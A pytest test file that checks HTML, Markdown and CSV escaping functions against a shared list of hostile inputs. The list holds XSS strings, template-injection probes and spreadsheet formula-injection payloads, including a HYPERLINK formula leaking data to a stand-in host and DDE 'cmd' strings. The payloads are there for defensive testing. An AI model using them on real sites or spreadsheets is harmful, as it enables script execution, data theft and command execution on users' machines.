"""One escaping function per format, each tested with the same hostile payloads."""

from __future__ import annotations

import csv
import functools
import io
from html.parser import HTMLParser

import markdown
import pytest
from markupsafe import Markup

from crosscheck.site.escape import (
    REPLACEMENT,
    InertHtmlExtension,
    csv_cell,
    html_text,
    markdown_safe_html,
    plain_text,
)

# Markdown, attr_list, HTML, Jinja, Python-Markdown's own placeholders and spreadsheet formulas.
PAYLOADS = [
    "Whack *em*{: tabindex=0 autofocus onfocus=alert(1) }",
    "[x](javascript:alert(1))",
    "![](http://other-host.invalid/p.png)",
    "R1 | extra cell | another",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Inauguration <!-- swallow",
    "{{ 7*7 }} {% if true %}JINJA{% endif %} ${7*7}",
    "<http://evil.invalid/auto> https://evil.invalid/bare www.evil.invalid",
    "a [^1] footnote\n\n[^1]: planted",
    "*[HTML]: abbreviation",
    "~~del~~ ==mark== ^^ins^^ ++ctrl+alt++ :smile: --smarty-- 'quotes'",
    "\\*escaped\\* `code` &lt;entity&gt; &amp; &#60;b&#62;",
    "line one\n\n# heading\n\n    indented code\n\n- list",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0\x03",
    "\ue000deadbeef\ue001",
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "العربية فارسی 中文 日本語 \u202e",
]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def elements(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_text_keeps_the_payload_as_text(payload: str) -> None:
    html = Markup('<span title="{}">{}</span>').format(html_text(payload), html_text(payload))
    parsed = elements(str(html))
    assert parsed.tags == [("span", {"title": plain_text(payload)})]
    assert parsed.text == plain_text(payload)


def test_control_characters_are_replaced() -> None:
    r = REPLACEMENT
    assert plain_text("a\x02b\x03c\x00d\x7fe\x9bf") == f"a{r}b{r}c{r}d{r}e{r}f"
    assert plain_text("tab\tline\ncr\r") == "tab\tline\ncr\r"


# Every extension MkDocs, Material and pymdownx offer for text, on at once: whatever a later
# mkdocs.yml enables, fact-base text must stay text.
EXTENSIONS = [
    "attr_list", "def_list", "tables", "toc", "abbr", "footnotes", "md_in_html", "admonition",
    "smarty", "pymdownx.tilde", "pymdownx.mark", "pymdownx.caret", "pymdownx.keys",
    "pymdownx.magiclink", "pymdownx.betterem", "pymdownx.emoji", "pymdownx.critic",
    "pymdownx.inlinehilite", "pymdownx.smartsymbols", "pymdownx.tasklist",
]  # fmt: skip
CONTEXTS = {
    "paragraph": "Before {} after.\n",
    "table": "| a | b |\n| --- | --- |\n| {} | x |\n",
    "heading": "## Heading {}\n",
    "emphasis": "Some *{}* text.\n",
    "link text": "[{}](page.html)\n",
    "list": "- item {}\n- next\n",
    "definition": "Term {}\n:   definition {}\n",
    "blockquote": "> quoted {}\n",
    "block": "{}\n\nnext paragraph\n",
}


@functools.cache
def _markdown() -> markdown.Markdown:
    return markdown.Markdown(extensions=[*EXTENSIONS, InertHtmlExtension()])


def render(source: str) -> str:
    md = _markdown()  # building it (emoji tables) is slow; reset() forgets the last document
    md.reset()
    return md.convert(source)


@pytest.mark.parametrize("context", sorted(CONTEXTS))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_safe_html_is_never_parsed_as_markdown(payload: str, context: str) -> None:
    probe = Markup('<span class="probe">{}</span>').format(html_text(payload))
    token = markdown_safe_html(probe)
    html = render(CONTEXTS[context].replace("{}", token))
    assert html.count(str(probe)) == CONTEXTS[context].count("{}"), html
    parsed = elements(html)
    probes = [attrs for tag, attrs in parsed.tags if attrs.get("class") == "probe"]
    assert len(probes) == CONTEXTS[context].count("{}")
    allowed = {"p", "span", "table", "thead", "tbody", "tr", "th", "td", "h2", "em", "a", "ul",
               "li", "dl", "dt", "dd", "blockquote"}  # fmt: skip
    assert {tag for tag, _ in parsed.tags} <= allowed, html
    assert not any(name.startswith("on") for _, attrs in parsed.tags for name in attrs)
    if context == "table":
        assert html.count("<td>") == 2 and html.count("<th>") == 2, html


def test_markdown_safe_html_takes_only_markup() -> None:
    with pytest.raises(TypeError):
        markdown_safe_html("*text*")  # type: ignore[arg-type]


def test_a_heading_keeps_its_text_in_the_table_of_contents() -> None:
    md = markdown.Markdown(extensions=["toc", InertHtmlExtension()])
    probe = Markup("<bdi>{}</bdi>").format(html_text("5 *em* | x"))
    md.convert(f"## Up {markdown_safe_html(probe)}\n")
    token = md.toc_tokens[0]  # type: ignore[attr-defined]
    assert token["name"] == "Up 5 *em* | x"
    assert token["id"] == "up-5-em-x"


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_neutralises_formulas(payload: str) -> None:
    cell = csv_cell(payload)
    if payload.startswith(FORMULA_START):
        assert cell == "'" + plain_text(payload)
    else:
        assert cell == plain_text(payload)
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_NONNUMERIC).writerow([cell, 1.5])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [cell, "1.5"]


def test_csv_cell_of_nothing_is_empty() -> None:
    assert csv_cell(None) == ""
